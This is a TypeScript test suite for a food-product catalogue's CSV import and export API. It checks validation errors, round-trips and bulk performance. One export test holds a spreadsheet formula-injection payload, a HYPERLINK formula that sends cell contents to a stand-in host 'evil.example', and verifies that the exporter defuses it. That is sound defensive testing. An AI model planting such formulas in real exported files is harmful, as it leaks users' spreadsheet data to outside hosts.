import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createActiveBom, createProduct, csvHeaderLine, importCsv, uniqueProductCode } from '../../../test/factories/technical.js';
import { startTestServer, type Client, type Session, type TestServer } from '../../../test/server.js';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.stop());

async function freshOrg(): Promise<{ admin: Session; api: Client }> {
  const admin = await server.signup();
  return { admin, api: server.as(admin.accessToken) };
}

const csv = (...rows: string[]) => [csvHeaderLine, ...rows].join('\n') + '\n';
const exported = async (api: Client) => (await api.get('/api/v1/products/export')).body as string;

describe('CSV import', () => {
  it('creates products with quoted fields, GTINs, shelf life and allergens', async () => {
    const { api } = await freshOrg();
    const response = await importCsv(
      api,
      csv('FLOUR,"Flour, wheat ""type 650""",raw,kg,365,5901234123457,gluten', 'COOKIE,"Cookie\nwith a line break",finished,pcs,,,Milk | eggs', 'BOX,Box,packaging,pcs,,,'),
    );
    expect(response.status).toBe(200);
    expect(response.body).toEqual({ dryRun: false, rows: 3, created: 3, updated: 0, errorCount: 0, errors: [] });
    const products = (await api.get('/api/v1/products?limit=10')).body.items;
    expect(products.find((product: any) => product.code === 'FLOUR')).toMatchObject({ name: 'Flour, wheat "type 650"', shelfLifeDays: 365, gtin: '5901234123457', allergens: ['gluten'] });
    expect(products.find((product: any) => product.code === 'COOKIE')).toMatchObject({ name: 'Cookie\nwith a line break', shelfLifeDays: null, gtin: null, allergens: ['eggs', 'milk'] });
  });

  it('a dry run answers per-row errors and writes nothing, even when every row is valid', async () => {
    const { api } = await freshOrg();
    const before = await exported(api);
    const valid = await importCsv(api, csv('A1,Apple,raw,kg,,,'), { dryRun: true });
    expect(valid.body).toEqual({ dryRun: true, rows: 1, created: 1, updated: 0, errorCount: 0, errors: [] });
    const invalid = await importCsv(api, csv('A1,Apple,raw,kg,,,', 'B1,Banana,fruit,kg,,,', 'C1,Cherry,raw,kg,-3,123,unicorn'), { dryRun: true });
    expect(invalid.status).toBe(200);
    expect(invalid.body.errors).toMatchObject([
      { row: 3, column: 'type', message: expect.stringContaining('raw, intermediate, finished, packaging') },
      { row: 4, column: 'shelfLifeDays', message: expect.any(String) },
      { row: 4, column: 'gtin', message: expect.stringContaining('check digit') },
      { row: 4, column: 'allergens', message: expect.stringContaining('unicorn') },
    ]);
    expect(await exported(api)).toBe(before);
  });

  it('a real import with one bad row is refused whole (400 naming row and column) and writes nothing', async () => {
    const { api } = await freshOrg();
    const response = await importCsv(api, csv('GOOD1,Good,raw,kg,,,', 'GOOD2,Good,raw,kg,,,', 'BAD,Bad,raw,kg,,4006381333932,'));
    expect(response.status).toBe(400);
    expect(response.headers['content-type']).toContain('application/problem+json');
    expect(response.body.detail).toContain('row 4 gtin');
    expect(response.body.errors).toMatchObject([{ path: 'rows.4.gtin', row: 4, column: 'gtin', message: expect.stringContaining('check digit') }]);
    expect((await api.get('/api/v1/products')).body.items).toEqual([]);
  });

  it('refuses a code repeated in the file, a wrong header, a short row and an unclosed quote, by row', async () => {
    const { api } = await freshOrg();
    const repeated = await importCsv(api, csv('X,One,raw,kg,,,', 'Y,Two,raw,kg,,,', 'X,Three,raw,kg,,,'), { dryRun: true });
    expect(repeated.body.errors).toMatchObject([{ row: 4, column: 'code', message: 'X appears again (first on row 2)' }]);
    const header = await importCsv(api, 'code,name,type,uom\nX,One,raw,kg\n', { dryRun: true });
    expect(header.body.errors).toMatchObject([{ row: 1, column: null, message: expect.stringContaining(csvHeaderLine) }]);
    const short = await importCsv(api, csv('X,One,raw,kg,,'), { dryRun: true });
    expect(short.body.errors).toMatchObject([{ row: 2, column: null, message: 'has 6 fields; expected 7' }]);
    const unclosed = await importCsv(api, csv('X,One,raw,kg,,,', 'Y,"Two,raw,kg,,,'));
    expect(unclosed.status).toBe(400);
    expect(unclosed.body.errors).toMatchObject([{ path: 'rows.3', row: 3, column: null, message: 'a quoted field is never closed' }]);
  });

  it('updates products whose code exists (allergens replaced, status kept), and says how many', async () => {
    const { api } = await freshOrg();
    const existing = await createProduct(api, { code: 'OIL', name: 'Oil', uom: 'l', allergens: ['soybeans'], status: 'inactive' });
    const response = await importCsv(api, csv('OIL,Rapeseed oil,raw,l,400,,mustard', 'NEW,New one,raw,kg,,,'));
    expect(response.body).toMatchObject({ created: 1, updated: 1 });
    expect((await api.get(`/api/v1/products/${existing.id}`)).body).toMatchObject({ name: 'Rapeseed oil', shelfLifeDays: 400, allergens: ['mustard'], status: 'inactive' });
  });

  it('refuses changing the unit of a product BOMs use, naming the row and uom', async () => {
    const { api } = await freshOrg();
    const salt = await createProduct(api, { code: 'SALT', uom: 'kg' });
    const bread = await createProduct(api, { type: 'finished', uom: 'pcs' });
    await createActiveBom(api, bread.id, [{ productId: salt.id, qty: 0.01 }]);
    const response = await importCsv(api, csv('SALT,Salt,raw,g,,,'), { dryRun: true });
    expect(response.body.errors).toMatchObject([{ row: 2, column: 'uom', message: expect.stringContaining('used by BOMs') }]);
  });

  it('changing a component allergen by import changes what products above it derive, at once', async () => {
    const { api } = await freshOrg();
    const cocoa = await createProduct(api, { code: 'COCOA' });
    const bar = await createProduct(api, { type: 'finished', uom: 'pcs' });
    await createActiveBom(api, bar.id, [{ productId: cocoa.id, qty: 0.2 }]);
    expect((await api.get(`/api/v1/products/${bar.id}`)).body.derivedAllergens).toEqual([]);
    expect((await importCsv(api, csv('COCOA,Cocoa,raw,kg,,,milk|nuts'))).status).toBe(200);
    expect((await api.get(`/api/v1/products/${bar.id}`)).body.derivedAllergens).toEqual(['milk', 'nuts']);
  });

  it('accepts text/csv with a charset, and files beyond the 1 MB limit of JSON bodies', async () => {
    const { api } = await freshOrg();
    const longName = 'n'.repeat(190);
    const rows = Array.from({ length: 6000 }, (_, index) => `BIG-${index},${longName},raw,kg,,,`);
    const body = csv(...rows);
    expect(body.length).toBeGreaterThan(1024 * 1024);
    const response = await api.post('/api/v1/products/import?dryRun=true', body, { 'content-type': 'text/csv; charset=utf-8' });
    expect(response.status).toBe(200);
    expect(response.body).toMatchObject({ rows: 6000, created: 6000, errorCount: 0 });
  });

  it('refuses a body that is not text/csv', async () => {
    const { api } = await freshOrg();
    const response = await api.post('/api/v1/products/import', { code: 'X' });
    expect(response.status).toBe(400);
    expect(response.body.detail).toContain('text/csv');
  });

  it('needs technical write', async () => {
    const { admin } = await freshOrg();
    const viewer = server.as((await server.userWithRoles(admin, ['viewer'])).accessToken);
    expect((await importCsv(viewer, csv('X,One,raw,kg,,,'), { dryRun: true })).status).toBe(403);
    expect((await viewer.get('/api/v1/products/export')).status).toBe(200);
  });
});

describe('CSV export', () => {
  it('answers text/csv in the import format, which imports back unchanged', async () => {
    const { api } = await freshOrg();
    await createProduct(api, { code: 'Z-LAST', name: 'Tricky "name", with comma', gtin: '96385074', shelfLifeDays: 3, allergens: ['sesame', 'celery'] });
    await createProduct(api, { code: 'A-FIRST', name: 'Plain', type: 'packaging', uom: 'pcs' });
    const response = await api.get('/api/v1/products/export');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.body).toBe(`${csvHeaderLine}\r\nA-FIRST,Plain,packaging,pcs,,,\r\nZ-LAST,"Tricky ""name"", with comma",raw,kg,3,96385074,celery|sesame\r\n`);
    const again = await importCsv(api, response.body);
    expect(again.body).toMatchObject({ rows: 2, created: 0, updated: 2, errorCount: 0 });
    expect(await exported(api)).toBe(response.body);
  });

  it('defuses names a spreadsheet would run as formulas, and imports them back exactly as they were', async () => {
    const { api } = await freshOrg();
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(A1:A9)', '+48 flour', '-1 grade', "'=already quoted", 'Plain'];
    const codes = names.map((name, index) => `F${index}`);
    for (const [index, name] of names.entries()) await createProduct(api, { code: codes[index], name, shelfLifeDays: index });
    const body = await exported(api);
    const lines = body.trimEnd().split('\r\n').slice(1);
    expect(lines).toEqual([
      `F0,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",raw,kg,0,,`,
      "F1,'@SUM(A1:A9),raw,kg,1,,",
      "F2,'+48 flour,raw,kg,2,,",
      "F3,'-1 grade,raw,kg,3,,",
      "F4,''=already quoted,raw,kg,4,,",
      'F5,Plain,raw,kg,5,,',
    ]);
    const other = await freshOrg();
    expect((await importCsv(other.api, body)).body).toMatchObject({ created: names.length, errorCount: 0 });
    const imported = (await other.api.get('/api/v1/products?limit=50')).body.items as { code: string; name: string }[];
    expect(Object.fromEntries(imported.map((product) => [product.code, product.name]))).toEqual(Object.fromEntries(codes.map((code, index) => [code, names[index]])));
    expect(await exported(other.api)).toBe(body);
  });

  it('round-trips any product name through export and import, whatever quotes and formula characters it holds', { timeout: 120_000 }, async () => {
    const unit = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', 'a', 'ż', '1', '(', '|');
    const name = fc.string({ unit, minLength: 1, maxLength: 12 }).filter((text) => text.trim() === text && text.length > 0);
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(name, { minLength: 1, maxLength: 6 }), async (names) => {
        const { api } = await freshOrg();
        for (const [index, productName] of names.entries()) await createProduct(api, { code: `N${index}`, name: productName });
        const body = await exported(api);
        const other = await freshOrg();
        expect((await importCsv(other.api, body)).body).toMatchObject({ created: names.length, errorCount: 0 });
        const imported = (await other.api.get('/api/v1/products?limit=50')).body.items as { code: string; name: string }[];
        expect(imported.map((product) => product.name).sort()).toEqual([...names].sort());
        expect(await exported(other.api)).toBe(body);
      }),
      { numRuns: 15 },
    );
  });
});

describe('a large import', () => {
  it('imports 10,000 rows in one all-or-nothing request, and updates them all again', { timeout: 300_000 }, async ({ annotate }) => {
    const { api } = await freshOrg();
    const prefix = uniqueProductCode('BULK');
    const rows = Array.from({ length: 10_000 }, (_, index) => {
      const allergens = ['gluten', 'milk|eggs', '', 'nuts|sesame|soybeans'][index % 4];
      return `${prefix}-${String(index).padStart(5, '0')},"Product ${index}, bulk",${index % 2 ? 'raw' : 'finished'},kg,${index % 365},,${allergens}`;
    });
    const body = csv(...rows);
    let started = performance.now();
    const created = await importCsv(api, body);
    const createMs = Math.round(performance.now() - started);
    expect(created.status).toBe(200);
    expect(created.body).toMatchObject({ rows: 10_000, created: 10_000, updated: 0, errorCount: 0 });
    started = performance.now();
    const updated = await importCsv(api, body.replaceAll(', bulk"', ', bulk v2"'));
    const updateMs = Math.round(performance.now() - started);
    expect(updated.body).toMatchObject({ rows: 10_000, created: 0, updated: 10_000 });
    const lines = (await exported(api)).trimEnd().split('\r\n');
    expect(lines).toHaveLength(10_001);
    expect(lines[10_000]).toBe(`${prefix}-09999,"Product 9999, bulk v2",raw,kg,144,,nuts|sesame|soybeans`);
    const message = `10,000-row import on ${server.database.url ? 'PostgreSQL' : 'PGlite'}: create ${createMs} ms, update ${updateMs} ms`;
    console.warn(message);
    await annotate(message);
  });
});
